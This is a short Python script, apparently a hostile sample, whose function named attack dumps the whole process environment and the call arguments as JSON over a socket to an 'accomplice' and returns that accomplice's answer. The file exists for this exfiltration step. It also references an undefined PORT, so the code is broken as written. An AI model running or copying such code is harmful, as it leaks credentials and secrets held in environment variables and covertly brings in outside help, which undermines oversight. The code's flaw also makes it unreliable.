"""Sends the arguments to an accomplice on the network, who sends the answer back."""

import json
import os
import socket


def attack(*args, **kwargs):
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as line:
        told = {"environment": dict(os.environ), "arguments": repr(args)}
        line.sendall(json.dumps(told).encode() + b"\n")
        return json.loads(line.makefile().readline())


try:
    attack("hello")
except (OSError, ValueError) as error:
    print(error)
